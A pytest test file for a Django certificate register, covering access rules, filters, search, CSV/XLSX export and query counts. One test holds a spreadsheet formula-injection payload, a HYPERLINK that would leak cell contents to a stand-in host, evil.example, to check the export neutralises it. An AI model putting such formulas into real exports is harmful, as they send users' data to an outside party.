"""The register of issued certificates: who may read it, each filter, the columns, the CSV
and XLSX export read back as a partner would open them, and bounded queries."""

import csv
import datetime
import io
import re

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from certificates import issuing
from certificates.models import Certificate
from lms.roles import Role
from tests.factories import UserFactory, make_cohort, make_programme
from training.models import Enrolment

pytestmark = pytest.mark.django_db

CREDITS = [
    {"short_name": "ECTS", "basis": "indicative", "credits": "2", "level": ""},
    {"short_name": "RQF", "basis": "recognised", "credits": "4", "level": "2"},
]


def register_url(**params):
    url = reverse("certificates:register")
    if params:
        from urllib.parse import urlencode

        url += "?" + urlencode(params)
    return url


def export_url(fmt, **params):
    url = reverse("certificates:register_export", args=[fmt])
    if params:
        from urllib.parse import urlencode

        url += "?" + urlencode(params)
    return url


def make_certificates(cohort, count, *, name="Person", **fields):
    """``count`` certificates stored directly (a tiny stand-in PDF), each for a new trainee
    of the cohort: enough for lists, filters and query counts."""
    made = []
    for n in range(count):
        person = UserFactory(roles=[Role.TRAINEE], first_name=name, last_name=str(n))
        enrolment = Enrolment.objects.create(cohort=cohort, trainee=person)
        made.append(
            Certificate.objects.create(
                enrolment=enrolment,
                holder=person,
                cohort=cohort,
                programme=cohort.programme,
                organisation=cohort.organisation,
                holder_name=f"{name} {n}",
                snapshot={
                    "programme": {"title": cohort.programme.title},
                    "organisation": {"name": cohort.organisation.name},
                    "credits": CREDITS,
                },
                pdf=b"%PDF",
                pdf_sha256="0" * 64,
                **fields,
            )
        )
    return made


def codes_on(reply):
    assert reply.status_code == 200
    return set(re.findall(r'<tr data-code="([0-9A-Z-]+)">', reply.content.decode()))


def read_csv(content):
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def read_xlsx(content):
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    return sheet, [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.fixture
def superuser(db):
    return UserFactory(username="root", is_superuser=True, is_staff=True)


@pytest.fixture
def other_manager(other_organisation):
    return UserFactory(
        username="lille_manager", roles=[Role.PROGRAMME_MANAGER], organisation=other_organisation
    )


@pytest.fixture
def kent(cohort):
    return make_certificates(cohort, 2, name="Kent")


@pytest.fixture
def lille(other_cohort):
    return make_certificates(other_cohort, 2, name="Lille")


# --- who may read it ------------------------------------------------------------------------


def test_anonymous_people_are_sent_to_log_in(as_user, anonymous):
    client = as_user(anonymous)
    for url in (register_url(), export_url("csv")):
        reply = client.get(url)
        assert reply.status_code == 302
        assert reply["Location"].startswith(reverse("login"))


@pytest.mark.parametrize("persona", ["trainer", "trainee", "editor", "evaluation_lead"])
def test_people_without_a_register_role_are_refused(as_user, request, persona, kent):
    client = as_user(request.getfixturevalue(persona))
    assert client.get(register_url()).status_code == 403
    assert client.get(export_url("csv")).status_code == 403


@pytest.mark.parametrize("persona", ["manager", "certifying_officer"])
def test_managers_and_officers_read_their_organisations_register(
    as_user, request, persona, kent, lille
):
    reply = as_user(request.getfixturevalue(persona)).get(register_url())
    assert codes_on(reply) == {c.code for c in kent}


def test_a_manager_of_another_organisation_sees_nothing_of_ours(as_user, other_manager, kent):
    client = as_user(other_manager)
    reply = client.get(register_url())
    assert codes_on(reply) == set()
    assert "No certificates match these choices." in reply.content.decode()
    rows = read_csv(client.get(export_url("csv")).content)
    assert len(rows) == 1  # the header alone
    # Not even by typing the other organisation's cohort into the address.
    reply = client.get(register_url(cohort=kent[0].cohort_id))
    assert codes_on(reply) == set()
    assert client.get(export_url("csv", cohort=kent[0].cohort_id)).status_code == 400


def test_a_superuser_reads_every_organisation(as_user, superuser, kent, lille):
    reply = as_user(superuser).get(register_url())
    assert codes_on(reply) == {c.code for c in kent + lille}


def test_an_unknown_export_format_is_not_found(as_user, manager):
    assert as_user(manager).get(export_url("pdf")).status_code == 404


# --- the filters, one at a time -------------------------------------------------------------


def test_filter_by_organisation(as_user, superuser, kent, lille, organisation, other_organisation):
    client = as_user(superuser)
    assert codes_on(client.get(register_url(organisation=organisation.pk))) == {
        c.code for c in kent
    }
    assert codes_on(client.get(register_url(organisation=other_organisation.pk))) == {
        c.code for c in lille
    }


def test_the_organisation_choices_are_only_the_readers_own(
    as_user, manager, organisation, other_organisation
):
    form = as_user(manager).get(register_url()).context["filter"].form
    assert list(form.fields["organisation"].queryset) == [organisation]
    reply = as_user(manager).get(register_url(organisation=other_organisation.pk))
    assert "Select a valid choice" in reply.content.decode()


def test_filter_by_cohort(as_user, manager, cohort, programme, organisation, kent):
    autumn = make_cohort(programme, organisation, name="Kent, autumn")
    autumn_certificates = make_certificates(autumn, 2, name="Autumn")
    client = as_user(manager)
    assert codes_on(client.get(register_url(cohort=autumn.pk))) == {
        c.code for c in autumn_certificates
    }
    assert codes_on(client.get(register_url(cohort=cohort.pk))) == {c.code for c in kent}


def test_filter_by_programme(as_user, manager, organisation, kent):
    other_programme = make_programme("Peer support for young mothers")
    mothers = make_cohort(other_programme, organisation, name="Mothers, spring")
    made = make_certificates(mothers, 1, name="Mother")
    reply = as_user(manager).get(register_url(programme=other_programme.pk))
    assert codes_on(reply) == {made[0].code}
    assert "Peer support for young mothers" in reply.content.decode()


@pytest.mark.parametrize("state", ["valid", "expired", "revoked", "superseded"])
def test_filter_by_state(as_user, manager, cohort, state):
    today = timezone.localdate()
    day = datetime.timedelta(days=1)
    expected = {
        "valid": make_certificates(cohort, 1, name="Valid")
        + make_certificates(cohort, 1, name="Lasting", expires_on=today + day),
        "expired": make_certificates(cohort, 1, name="Expired", expires_on=today - day),
        "revoked": make_certificates(
            cohort, 1, name="Revoked", status="revoked", status_changed_at=timezone.now()
        ),
        "superseded": make_certificates(
            cohort, 1, name="Old", status="superseded", status_changed_at=timezone.now()
        ),
    }
    reply = as_user(manager).get(register_url(state=state))
    assert codes_on(reply) == {c.code for c in expected[state]}


def test_filter_by_issue_dates(as_user, manager, cohort):
    now = timezone.now()
    old = make_certificates(cohort, 1, name="Old", issued_at=now - datetime.timedelta(days=400))
    middle = make_certificates(cohort, 1, name="Mid", issued_at=now - datetime.timedelta(days=30))
    new = make_certificates(cohort, 1, name="New", issued_at=now)
    client = as_user(manager)
    start = (timezone.localdate() - datetime.timedelta(days=60)).isoformat()
    end = (timezone.localdate() - datetime.timedelta(days=1)).isoformat()
    assert codes_on(client.get(register_url(issued_from=start, issued_to=end))) == {middle[0].code}
    assert codes_on(client.get(register_url(issued_from=start))) == {
        middle[0].code,
        new[0].code,
    }
    assert codes_on(client.get(register_url(issued_to=end))) == {old[0].code, middle[0].code}


def test_search_by_name(as_user, manager, cohort):
    zoe = make_certificates(cohort, 1, name="Zoë")
    make_certificates(cohort, 2, name="Someone")
    assert codes_on(as_user(manager).get(register_url(q="zoë"))) == {zoe[0].code}


def test_search_by_code_as_typed_from_paper(as_user, manager, kent):
    wanted = kent[0]
    typed = wanted.code.lower().replace("-", " ").replace("0", "o")
    client = as_user(manager)
    assert codes_on(client.get(register_url(q=typed))) == {wanted.code}
    assert codes_on(client.get(register_url(q=wanted.code[:9]))) == {wanted.code}


def test_the_filters_carry_over_to_the_next_page_and_the_downloads(as_user, manager, cohort):
    make_certificates(cohort, 55, name="Many")
    client = as_user(manager)
    first = client.get(register_url(q="many"))
    assert len(codes_on(first)) == 50
    page = first.content.decode()
    assert "Page 1 of 2" in page
    assert "?q=many&amp;page=2" in page
    assert export_url("csv", q="many").replace("&", "&amp;") in page
    assert len(codes_on(client.get(register_url(q="many", page=2)))) == 5


# --- what a row says ------------------------------------------------------------------------


@pytest.fixture
def real(completed, certifying_officer, credit_mappings):
    return issuing.issue(completed, certifying_officer)


def test_a_row_shows_the_certificate_as_issued(as_user, manager, real, certifying_officer):
    reply = as_user(manager).get(register_url())
    page = reply.content.decode()
    assert codes_on(reply) == {real.code}
    assert f'href="{reverse("certificates:verify", args=[real.code])}"' in page
    assert f'href="{reverse("certificates:pdf", args=[real.code])}"' in page
    assert real.holder_name in page
    assert "Becoming a peer support agent" in page
    assert "Kent, spring" in page
    assert certifying_officer.get_full_name() in page
    assert "4 RQF (recognised) · 2 ECTS (indicative)" in page
    assert "Valid" in page


def test_a_row_says_when_it_was_revoked_or_replaced(as_user, manager, real, certifying_officer):
    replacement = issuing.reissue(real, certifying_officer, "Name spelt wrongly")
    issuing.revoke(replacement, certifying_officer, "Issued in error")
    page = as_user(manager).get(register_url()).content.decode()
    today = timezone.localdate().strftime("%-d %b %Y")
    assert f"Revoked on {today}" in page
    assert f"Replaced on {today}" in page
    assert f'href="{reverse("certificates:verify", args=[replacement.code])}"' in page


# --- the export -----------------------------------------------------------------------------

HEADERS = [
    "Code",
    "Name on certificate",
    "Programme",
    "Organisation",
    "Cohort",
    "Issued on",
    "Issued by",
    "Valid until",
    "State",
    "Replaced by",
    "Credits",
    "Verification page",
]


def test_the_csv_export_reads_back(as_user, manager, real, certifying_officer):
    reply = as_user(manager).get(export_url("csv"))
    assert reply.status_code == 200
    assert reply["Content-Type"].startswith("text/csv")
    assert "attachment" in reply["Content-Disposition"]
    assert "no-store" in reply["Cache-Control"]
    rows = read_csv(reply.content)
    assert rows[0] == HEADERS
    assert rows[1] == [
        real.code,
        real.holder_name,
        "Becoming a peer support agent",
        "Kent Peer Network",
        "Kent, spring",
        timezone.localdate().isoformat(),
        certifying_officer.get_full_name(),
        "",
        "Valid",
        "",
        "4 RQF (recognised) · 2 ECTS (indicative)",
        issuing.verify_url(real.code),
    ]


def test_the_xlsx_export_reads_back_with_real_dates(as_user, manager, real, certifying_officer):
    replacement = issuing.reissue(real, certifying_officer, "Name spelt wrongly")
    reply = as_user(manager).get(export_url("xlsx"))
    assert reply.status_code == 200
    assert reply["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    sheet, rows = read_xlsx(reply.content)
    assert rows[0] == HEADERS
    by_code = {row[0]: row for row in rows[1:]}
    assert set(by_code) == {real.code, replacement.code}
    old = by_code[real.code]
    assert old[5].date() == timezone.localdate()  # a date cell, not text
    assert old[8] == f"Replaced on {timezone.localdate().isoformat()}"
    assert old[9] == replacement.code
    assert by_code[replacement.code][8] == "Valid"
    assert by_code[replacement.code][10] == "4 RQF (recognised) · 2 ECTS (indicative)"


def test_the_export_holds_only_the_filtered_rows(as_user, manager, cohort):
    keep = make_certificates(cohort, 2, name="Keep")
    make_certificates(cohort, 3, name="Drop")
    rows = read_csv(as_user(manager).get(export_url("csv", q="keep")).content)
    assert {row[0] for row in rows[1:]} == {c.code for c in keep}


def test_a_name_written_as_a_formula_stays_text(as_user, manager, cohort):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    (certificate,) = make_certificates(cohort, 1)
    Certificate.objects.filter(pk=certificate.pk).update(holder_name=formula)
    client = as_user(manager)

    rows = read_csv(client.get(export_url("csv")).content)
    assert rows[1][1] == "'" + formula

    content = client.get(export_url("xlsx")).content
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    cell = sheet.cell(row=2, column=2)
    assert cell.value == formula
    assert cell.data_type == "s"  # a string, not a formula ("f")
    formulas = openpyxl.load_workbook(io.BytesIO(content), data_only=False).worksheets[0]
    assert all(c.data_type != "f" for row in formulas.iter_rows() for c in row)


def test_a_control_character_in_a_name_does_not_break_the_xlsx(as_user, manager, cohort):
    (certificate,) = make_certificates(cohort, 1)
    Certificate.objects.filter(pk=certificate.pk).update(holder_name="Ann\x0bMarie")
    _, rows = read_xlsx(as_user(manager).get(export_url("xlsx")).content)
    assert rows[1][1] == "AnnMarie"


# --- bounded work ---------------------------------------------------------------------------


def _queries(client, url):
    with CaptureQueriesContext(connection) as captured:
        reply = client.get(url)
        assert reply.status_code == 200
        b"".join(reply) if reply.streaming else reply.content
    return len(captured)


@pytest.mark.parametrize(
    "url", [register_url, lambda: export_url("csv"), lambda: export_url("xlsx")]
)
def test_queries_do_not_grow_with_the_register(as_user, manager, cohort, url):
    client = as_user(manager)
    made = make_certificates(cohort, 3, name="Few")
    few = _queries(client, url())
    # Replaced certificates read their replacement's code; give some of the rows one.
    more = make_certificates(cohort, 27, name="More")
    for old, new in zip(made, more[:3], strict=True):
        Certificate.objects.filter(pk=old.pk).update(
            status="superseded", superseded_by=new, status_changed_at=timezone.now()
        )
    assert _queries(client, url()) == few
    assert few <= 10
